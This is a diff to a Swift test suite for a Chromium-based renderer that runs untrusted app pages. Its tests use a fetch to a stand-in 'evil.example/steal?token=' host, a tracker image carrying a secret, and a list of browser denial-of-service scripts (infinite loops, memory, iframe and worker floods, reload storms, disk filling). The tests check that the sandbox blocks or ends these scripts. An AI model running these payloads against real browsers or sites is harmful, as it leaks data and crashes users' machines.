@@ -7,6 +7,12 @@ import Testing
 
 @testable import AtollRendering
 
+#if canImport(Glibc)
+import Glibc
+#elseif canImport(Darwin)
+import Darwin
+#endif
+
 /// Chromium is needed: without it these tests fail, as a Center without it says so.
 @Suite("Pages in Chromium", .serialized)
 struct RendererTests {
@@ -49,7 +55,9 @@ struct RendererTests {
     func fine() async throws {
         let rendered = try await Self.render(
             Self.package(
-                Self.fine, script: "import { host, storage } from \"/.atoll/atoll.js\"; await host.info(); await storage.set(\"a\", 1);",
+                Self.fine,
+                script:
+                    "import { host, storage } from \"/.atoll/atoll.js\"; await host.info(); await storage.set(\"a\", 1);",
                 pages: ["pages/home", "pages/other"]))
         #expect(rendered.findings == [])
         #expect(rendered.unopened == 0)
@@ -80,7 +88,9 @@ struct RendererTests {
     @Test("A page that never says that it is ready does not start")
     func silent() async throws {
         let package = try Self.package(Self.fine, script: "", head: "")
-        let files = package.files.map { $0.path == "app.js" ? PackageFile(path: "app.js", contents: Data("1;".utf8)) : $0 }
+        let files = package.files.map {
+            $0.path == "app.js" ? PackageFile(path: "app.js", contents: Data("1;".utf8)) : $0
+        }
         let rendered = try await Self.render(MiniAppPackage(files: files), patience: .seconds(1))
         #expect(rendered.findings.map(\.code) == ["start"])
         #expect(rendered.findings.first?.text.contains("ready") ?? false)
@@ -90,7 +100,8 @@ struct RendererTests {
     func requests() async throws {
         let rendered = try await Self.render(
             Self.package(
-                Self.fine + "<img src=\"/missing.png\" alt=\"A cat\"><img src=\"https://tracker.example/p?secret=1\" alt=\"Nothing\">",
+                Self.fine
+                    + "<img src=\"/missing.png\" alt=\"A cat\"><img src=\"https://tracker.example/p?secret=1\" alt=\"Nothing\">",
                 script: """
                     fetch("https://evil.example/steal?token=abc").catch(() => {});
                     fetch("http://127.0.0.1:1/").catch(() => {});
@@ -129,15 +140,16 @@ struct RendererTests {
     /// With ATOLL_ATTACK, everything that is known to hurt browsers.
     private static let attacks =
         [
-            "while (true) {}", "while (true) console.error(\"x\".repeat(10_000));",
-            "const kept = []; while (true) kept.push(new Uint8Array(50_000_000).fill(7));",
+            "while (true) {}", "const kept = []; while (true) kept.push(new Uint8Array(50_000_000).fill(7));",
         ]
         + (ProcessInfo.processInfo.environment["ATOLL_ATTACK"] == nil
             ? []
             : [
+                "while (true) console.error(\"x\".repeat(10_000));",
                 "for (let i = 0; i < 10_000; i++) document.body.append(document.createElement(\"iframe\"));",
                 "const again = () => { setTimeout(again); setTimeout(again); location.reload(); }; again();",
-                "for (;;) alert(1);", "for (;;) open(\"about:blank\");", "document.body.innerHTML = \"<i>\".repeat(3_000_000);",
+                "for (;;) alert(1);", "for (;;) open(\"about:blank\");",
+                "document.body.innerHTML = \"<i>\".repeat(3_000_000);",
                 "for (let i = 0; i < 200; i++) new Worker(URL.createObjectURL(new Blob([\"while (true) {}\"])));",
                 "const c = document.createElement(\"canvas\"); c.width = c.height = 30_000; c.getContext(\"2d\").fillRect(0, 0, 9, 9);",
                 "while (true) history.pushState({}, \"\", \"/x\" + Math.random());",
@@ -153,6 +165,65 @@ struct RendererTests {
         #expect(rendered.findings.count < 60)
     }
 
+    @Test(
+        "Halves of characters do no harm",
+        arguments: [
+            "setTimeout(() => { throw new Error(\"\\ud800\"); });",
+            "console.error(\"\\udfff\\\\ud800\\ud83d\\ude00\", \"a\".padEnd(9e5, \"\\u0301\"));",
+            "document.body.insertAdjacentHTML(\"beforeend\", `<p style='color:#ccc'>${\"x\".repeat(59)}\\ud83d\\ude00 words</p>`);",
+        ])
+    func halves(_ script: String) async throws {
+        let rendered = try await Self.render(Self.package(Self.fine, script: script))
+        #expect(rendered.pictures.count == 4)
+        #expect(rendered.findings.count == 1)
+        #expect(rendered.findings.allSatisfy { $0.text.utf8.count < 2_000 })
+    }
+
+    @Test("Nothing leaves the machine, nor reaches it, by WebRTC either")
+    func realtime() async throws {
+        // A socket that would notice: unconnected, it keeps what it is sent.
+        let listener = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
+        defer { close(listener) }
+        var address = sockaddr_in()
+        address.sin_family = sa_family_t(AF_INET)
+        address.sin_addr.s_addr = UInt32(0x7f00_0001).bigEndian
+        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
+        let status = withUnsafeMutablePointer(to: &address) {
+            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
+                bind(listener, $0, length) + getsockname(listener, $0, &length)
+            }
+        }
+        #expect(status == 0)
+        let port = UInt16(bigEndian: address.sin_port)
+        _ = try await Self.render(
+            Self.package(
+                Self.fine,
+                script: """
+                    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:\(port)" }] });
+                    peer.createDataChannel("x");
+                    await peer.setLocalDescription(await peer.createOffer());
+                    await new Promise((done) => setTimeout(done, 1500));
+                    """))
+        var byte: UInt8 = 0
+        #expect(recv(listener, &byte, 1, Int32(MSG_DONTWAIT)) < 0, "something arrived")
+    }
+
+    @Test("A page that fills the disk is ended")
+    func disk() async throws {
+        let rendered = try await Self.render(
+            Self.package(
+                Self.fine,
+                script: """
+                    const folder = await navigator.storage.getDirectory();
+                    const file = await (await folder.getFileHandle("x", { create: true })).createWritable();
+                    const block = crypto.getRandomValues(new Uint8Array(65536));
+                    for (let i = 0; i < 20000; i++) await file.write(block);
+                    """), seconds: 30, patience: .seconds(15))
+        #expect(
+            rendered.findings.contains { $0.code == "start" && $0.text.contains("MB to its folder") },
+            "\(rendered.findings)")
+    }
+
     @Test("Nothing of a browser is left")
     func leftovers() async throws {
         _ = try await Self.render(Self.package(Self.fine))
@@ -165,7 +236,7 @@ struct RendererTests {
     @Test("Without a browser, it says so")
     func none() async throws {
         let renderer = ChromiumRenderer(.untrusted(URL(filePath: "/no/chromium")))
-        await #expect(throws: BrowserError.noBrowser("/no/chromium")) {
+        await #expect(throws: RenderingUnavailable.self) {
             try await renderer.render(Self.package(Self.fine))
         }
     }
